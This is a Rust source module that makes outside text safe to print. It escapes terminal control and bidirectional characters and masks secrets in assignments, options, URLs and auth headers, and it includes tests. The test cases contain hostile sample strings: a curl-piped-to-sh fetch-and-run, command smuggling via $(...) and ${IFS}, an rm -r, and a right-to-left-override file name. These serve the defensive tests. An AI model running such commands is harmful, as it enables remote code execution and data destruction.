//! Text from outside hotrun, made safe to print.

use std::borrow::Cow;
use std::sync::LazyLock;

use regex::Regex;

/// Characters that change the writing direction, break lines or are invisible.
fn is_unseen(c: char) -> bool {
    matches!(
        c,
        '\u{61c}'
            | '\u{200b}'..='\u{200f}'
            | '\u{2028}'..='\u{202e}'
            | '\u{2060}'..='\u{2069}'
            | '\u{feff}'
            | '\u{e0000}'..='\u{e007f}'
    )
}

/// Escapes control characters, such as escape sequences, and characters that are invisible or
/// change the writing direction. So no name and no value can hide, or imitate, something else on a
/// terminal. Line feeds stay.
pub(crate) fn visible(text: &str) -> Cow<'_, str> {
    let is_obeyed = |c: char| c != '\n' && (c.is_control() || is_unseen(c));
    if !text.contains(is_obeyed) {
        return Cow::Borrowed(text);
    }
    let mut shown = String::with_capacity(text.len() + 8);
    for c in text.chars() {
        if is_obeyed(c) {
            shown.extend(c.escape_default());
        } else {
            shown.push(c);
        }
    }
    Cow::Owned(shown)
}

/// A name and what is between it and its value, as in `NAME=value`, `--name value`,
/// `"name": "value"` and `("name", "value")`. Quotes may be escaped, in a text within a text.
static ASSIGNED: LazyLock<Option<Regex>> = LazyLock::new(|| {
    let pattern = r#"(?x) (?P<prefix> -- | \(\\*["'] )? \b (?P<name> [A-Za-z][A-Za-z0-9_-]* )
        (?: \s*=\s* (?P<quote> \\*["'] )?
          | \\*["'] \s*:\s* (?: Some\( )? (?P<of_map> \\*["'] )
          | \\*["'] ,\s* (?P<of_list> \\*["'] )
          | (?P<space> \s+ \\*["']? ) )"#;
    Regex::new(pattern).ok()
});
/// The password in an address.
static IN_ADDRESS: LazyLock<Option<Regex>> =
    LazyLock::new(|| Regex::new(r"\b[a-zA-Z][a-zA-Z0-9+.-]*://[^\s:/@]*:").ok());
/// A header of HTTP.
static AUTHORIZATION: LazyLock<Option<Regex>> = LazyLock::new(|| {
    let pattern = r#"(?i)\bauthorization\\*["']?\s*[:=]\s*\\*["']?(?:(?:bearer|basic|token)\s+)?"#;
    Regex::new(pattern).ok()
});

/// True for the name of a variable, or of an option, whose value is a secret.
fn is_secret(name: &str) -> bool {
    let name = name.to_ascii_uppercase().replace('-', "_");
    let words: Vec<&str> = name.split('_').collect();
    // The file that holds it is none.
    if words.last().is_some_and(|last| ["FILE", "PATH", "DIR"].contains(last)) {
        return false;
    }
    let holds = |part: &&str| name.contains(*part);
    ["SECRET", "TOKEN", "PASSWORD", "PASSWD", "PASSPHRASE", "CREDENTIAL", "APIKEY"]
        .iter()
        .any(holds)
        || words.contains(&"PASS")
        || words.len() > 1 && (words.contains(&"KEY") || words.contains(&"AUTH"))
}

/// Returns the length of what is certainly a literal. Hiding a command would be worse than showing
/// a secret.
fn literal(text: &str) -> usize {
    let is_none = |c: char| c.is_whitespace() || "\"'$`\\(){};|&<>".contains(c);
    text.find(is_none).unwrap_or(text.len())
}

/// Where the literal that begins there ends, if nothing follows that may belong to the same word.
fn end_of_literal(text: &str, begin: usize, quote: &str) -> Option<usize> {
    let end = begin + literal(&text[begin..]);
    let ends_well = if quote.is_empty() {
        text[end..].chars().next().is_none_or(|c| c.is_whitespace() || "\"'\\);|&".contains(c))
    } else {
        text[end..].starts_with(quote)
    };
    (ends_well && end > begin).then_some(end)
}

/// Where in a text there are literals that are assigned to names of secrets.
fn assigned(text: &str, pattern: &Regex) -> Vec<(usize, usize)> {
    let mut secrets = Vec::new();
    for found in pattern.captures_iter(text).filter(|found| is_secret(&found["name"])) {
        let prefix = found.name("prefix").map(|prefix| prefix.as_str());
        // Words beside each other say nothing, except for an option, or a pair.
        let is_pair = found.name("of_list").is_none() || prefix.is_some();
        let is_option = found.name("space").is_none() || prefix == Some("--");
        let Some(whole) = found.get(0).filter(|_| is_pair && is_option) else { continue };
        let quote = ["quote", "of_map", "of_list", "space"]
            .iter()
            .find_map(|name| found.name(name))
            .map_or("", |quote| quote.as_str().trim_start());
        // What follows an option without a value is another one.
        let is_none = !quote.is_empty() || found.name("space").is_none();
        if is_none || !text[whole.end()..].starts_with('-') {
            secrets.extend(end_of_literal(text, whole.end(), quote).map(|end| (whole.end(), end)));
        }
    }
    secrets
}

/// What looks like a secret is masked: a literal that is assigned to a variable or given to an
/// option with such a name, and the password in an address or in a header.
pub(crate) fn masked(text: &str) -> Cow<'_, str> {
    if !text.contains(['=', ':', '(']) && !text.contains("--") {
        return Cow::Borrowed(text);
    }
    let (Some(pattern), Some(in_address), Some(authorization)) =
        (&*ASSIGNED, &*IN_ADDRESS, &*AUTHORIZATION)
    else {
        return Cow::Borrowed(text);
    };
    let mut secrets = assigned(text, pattern);
    for found in authorization.find_iter(text) {
        let begin = found.end();
        secrets.extend(end_of_literal(text, begin, "").map(|end| (begin, end)));
    }
    for found in in_address.find_iter(text) {
        let begin = found.end();
        let rest = &text[begin..begin + literal(&text[begin..])];
        // A port, and the path after it, are not a password.
        let digits = rest.trim_start_matches(|c: char| c.is_ascii_digit());
        let is_port = digits.len() < rest.len() && digits.starts_with('/');
        if let Some(at) = rest.rfind('@').filter(|at| *at > 0 && !is_port) {
            secrets.push((begin, begin + at));
        }
    }
    secrets.sort_unstable();
    let mut shown = String::new();
    let mut from = 0;
    for (begin, end) in secrets {
        if begin < from {
            continue;
        }
        shown.extend([&text[from..begin], "***"]);
        from = end;
    }
    if from == 0 {
        return Cow::Borrowed(text);
    }
    shown.push_str(&text[from..]);
    Cow::Owned(shown)
}

/// Whether a line may hold a secret, also in a form that [`masked`] does not know: it has the name
/// of one in it.
pub(crate) fn may_hold_secret(line: &str) -> bool {
    let mut words = line.split(|c: char| !c.is_ascii_alphanumeric() && c != '_' && c != '-');
    words.any(|word| is_secret(&word.replace('-', "_"))) || masked(line) != line
}

/// Both: how everything is shown that may hold what others have chosen.
pub(crate) fn shown(text: &str) -> String {
    visible(&masked(text)).into_owned()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_a_terminal_would_obey_is_shown() {
        assert_eq!(visible("a \u{1b}[2Kb\r\n\u{7}"), "a \\u{1b}[2Kb\\r\n\\u{7}");
        assert_eq!(visible("x\u{9b}1m\u{202e}txt"), "x\\u{9b}1m\\u{202e}txt");
        assert!(matches!(visible("plain \u{e4}\u{1f600}\n"), Cow::Borrowed(_)));
    }

    #[test]
    fn secrets_are_masked_and_nothing_else_is() {
        for (text, expected) in [
            ("API_KEY=abc go run .", "API_KEY=*** go run ."),
            ("env DB_PASS='abc' STRIPE_KEY=x ./app", "env DB_PASS='***' STRIPE_KEY=*** ./app"),
            ("GITHUB_TOKEN = \"ghp\" # .env:3", "GITHUB_TOKEN = \"***\" # .env:3"),
            ("psql postgres://me:hunter2@db/x", "psql postgres://me:***@db/x"),
            ("psql 'postgres://me:p@ss/w@db/x'", "psql 'postgres://me:***@db/x'"),
            // A possible command is shown, whatever the name of the variable.
            ("TOKEN=\"$(curl evil | sh)\" true", "TOKEN=\"$(curl evil | sh)\" true"),
            ("TOKEN=`evil` sh", "TOKEN=`evil` sh"),
            ("A_TOKEN='rm -r x' sh -c \"$A_TOKEN\"", "A_TOKEN='rm -r x' sh -c \"$A_TOKEN\""),
            ("x://u:$(touch${IFS}x)@h", "x://u:$(touch${IFS}x)@h"),
            ("http://127.0.0.1:5000/@vite/client", "http://127.0.0.1:5000/@vite/client"),
            ("MONKEY=1 KEY=2 BYPASS=3", "MONKEY=1 KEY=2 BYPASS=3"),
            ("PORT=3000 ./app --key=value", "PORT=3000 ./app --key=value"),
            ("http://127.0.0.1:5000/", "http://127.0.0.1:5000/"),
            ("http://a:80/b@c", "http://a:80/b@c"),
            ("./app --token=hunter2 -v", "./app --token=*** -v"),
            ("./app --api-key hunter2", "./app --api-key ***"),
            ("./app --password 'hunter2' x", "./app --password '***' x"),
            ("./app --password --verbose", "./app --password --verbose"),
            ("./app --token $(evil)", "./app --token $(evil)"),
            ("the token is not valid", "the token is not valid"),
            ("args = [\"--token\", \"hunter2\"]", "args = [\"--token\", \"***\"]"),
            ("env = [\"API_TOKEN\", \"PORT\"]", "env = [\"API_TOKEN\", \"PORT\"]"),
            (r#"Shell("x --token=hunter2", [])"#, r#"Shell("x --token=***", [])"#),
            (r#"Shell("TOKEN=\"hunter2\" x")"#, r#"Shell("TOKEN=\"***\" x")"#),
            (r#"{"API_TOKEN": "hunter2", "PORT": "1"}"#, r#"{"API_TOKEN": "***", "PORT": "1"}"#),
            (r#"[("DB_PASSWORD", "hunter2")]"#, r#"[("DB_PASSWORD", "***")]"#),
            ("curl -H 'Authorization: Bearer hunter2'", "curl -H 'Authorization: Bearer ***'"),
            ("PASSWORD_FILE=/run/x --token-file y", "PASSWORD_FILE=/run/x --token-file y"),
        ] {
            assert_eq!(masked(text), expected);
        }
    }

    #[test]
    fn fuzz_nothing_that_a_terminal_obeys_is_left() {
        let corpus = ["API_KEY='a b' x://u:p@h/ \u{1b}[2K\u{9b}\n", "\u{202e}fdp.exe"];
        crate::fuzz::hammer(
            &corpus,
            &["TOKEN=", "--token ", "\\\"", "://", "@", "\u{2066}"],
            |text| {
                let shown = shown(&String::from_utf8_lossy(text));
                assert!(!shown.contains(|c: char| c != '\n' && c.is_control()), "{shown:?}");
                assert_eq!(visible(&shown), shown, "said twice, it is the same");
            },
        );
    }
}
